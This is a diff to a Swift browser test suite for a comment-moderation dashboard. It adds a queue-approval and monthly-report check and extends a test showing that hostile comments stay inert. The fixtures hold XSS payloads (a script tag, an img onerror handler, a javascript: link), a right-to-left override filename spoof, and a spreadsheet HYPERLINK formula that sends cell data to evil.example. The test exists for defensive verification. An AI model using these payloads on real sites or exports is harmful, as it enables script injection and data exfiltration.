@@ -261,7 +261,25 @@ struct DashboardBrowserTests {
             try await rows[0].element("a[data-open]").click()
             _ = try await driver.waitForElement("#text")
             #expect(try await driver.element("main").text().contains("Decorum's decision"))
-            try Screenshots.save(try await driver.fullPageScreenshot(), name: "item-urgent")
+
+            // Two approvals from the queue, then the month's report as the practice manager reads it.
+            for _ in 0..<2 {
+                try await driver.navigate(to: h.baseURL + "/queue")
+                let before = try await driver.elements("tr[data-row]").count
+                try await driver.element("tr[data-row] button[data-approve]").click()
+                try await driver.waitUntil("back at the queue") { try await driver.currentURL().contains("done=approved") }
+                let after = try await driver.elements("tr[data-row]").count
+                let page = try await driver.element("main").text()
+                #expect(after == before - 1, "\(page.prefix(500))")
+            }
+            try await h.eventually { try await h.store.items.list(ItemQuery(statuses: [.actioned, .resolved], limit: 50)).count >= 2 }
+            try await signOut(driver)
+            try await h.addUser("karen", name: "Karen Doyle", role: .practiceManager)
+            try await signIn(driver, h, as: "karen", then: "/reports")
+            let report = try await driver.element("main").text()
+            #expect(report.contains("\(Self.morning.count)"), "the report counts the morning's items: \(report.prefix(300))")
+            #expect(try await driver.elements("main svg").count >= 2, "the report's charts")
+            try Screenshots.save(try await driver.fullPageScreenshot(), name: "report")
         }
     }
 
@@ -322,12 +340,15 @@ struct DashboardBrowserTests {
     static let hostile = "Utter scum, the lot of you <script>window.__pwned = 1</script> \"><img src=x onerror=\"window.__pwned = 2\"> "
         + "<a href=\"javascript:window.__pwned = 3\">click</a> javascript:window.__pwned=4 \u{202E}gnp.exe"
 
-    @Test("hostile text in a comment stays text in the queue, the item page and the audit CSV: no script, image, handler or link comes of it")
+    @Test("hostile text in a comment stays text in the queue, the item page, the audit log, the report and both CSV files: no script, image, handler, link or formula comes of it")
     func hostileText() async throws {
         try await withDashboard { h, driver in
             try await h.addUser("pm", name: "Helen Marsh", role: .practiceManager)
             let id = try await h.comment(Self.hostile, by: "<b>Kev</b> \u{202E}nosbor", id: "7710000000000013")
             _ = try await h.item(id, reaches: [.awaitingApproval])
+            let formula = try await h.comment("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") you lot are useless scum", by: "Kev Rowe",
+                                              id: "7710000000000014")
+            _ = try await h.item(formula, reaches: [.awaitingApproval])
             try await signIn(driver, h, as: "pm", then: "/queue")
             let row = try await driver.waitForElement("table.queue tbody tr")
             try await expectInert(driver)
@@ -354,13 +375,39 @@ struct DashboardBrowserTests {
                 """).array ?? []
             #expect(csv.first?.int == 200)
             #expect(csv.dropFirst().first?.string?.hasPrefix("text/csv") == true)
-            let lines = (csv.last?.string ?? "").split(separator: "\r\n")
-            #expect(lines.count > 2)
-            for line in lines {
-                for cell in Self.cells(String(line)) {
-                    #expect(!(cell.first.map { "=+-@\t\r".contains($0) } ?? false), "a cell a spreadsheet would run: \(cell)")
-                    #expect(!cell.contains("\u{202E}"))
-                }
+            try Self.expectGuarded(csv.last?.string ?? "")
+
+            // Overridden, the hostile comment appears in the month's report and in its items file, still inert.
+            try await driver.navigate(to: h.baseURL + "/items/" + id.rawValue)
+            try await driver.element("#dismiss-reason").sendKeys("Testing what the page does with markup")
+            try await driver.element("form[action$='/dismiss'] button[type=submit]").click()
+            try await driver.waitUntil("the dismissal") { try await driver.currentURL().contains("done=dismissed") }
+            try await driver.navigate(to: h.baseURL + "/reports")
+            _ = try await driver.waitForElement("main h1")
+            try await expectInert(driver)
+            #expect(try await driver.element("main").text().contains("<script>"), "the override is listed with its words, as text")
+            let items = try await driver.execute("""
+                const request = new XMLHttpRequest();
+                request.open("GET", "/reports/items.csv?text=1", false);
+                request.send();
+                return [request.status, request.responseText];
+                """).array ?? []
+            #expect(items.first?.int == 200)
+            let itemsCSV = items.last?.string ?? ""
+            try Self.expectGuarded(itemsCSV)
+            #expect(itemsCSV.contains("'=HYPERLINK("), "the formula is kept, as text: \(itemsCSV.prefix(600))")
+            #expect(itemsCSV.contains("<script>window.__pwned = 1</script>"))
+        }
+    }
+
+    /// No cell a spreadsheet would run as a formula, and no hidden direction override.
+    static func expectGuarded(_ csv: String) throws {
+        let lines = csv.split(separator: "\r\n")
+        #expect(lines.count > 1)
+        for line in lines {
+            for cell in cells(String(line)) {
+                #expect(!(cell.first.map { "=+-@\t\r".contains($0) } ?? false), "a cell a spreadsheet would run: \(cell)")
+                #expect(!cell.contains("\u{202E}"))
             }
         }
     }
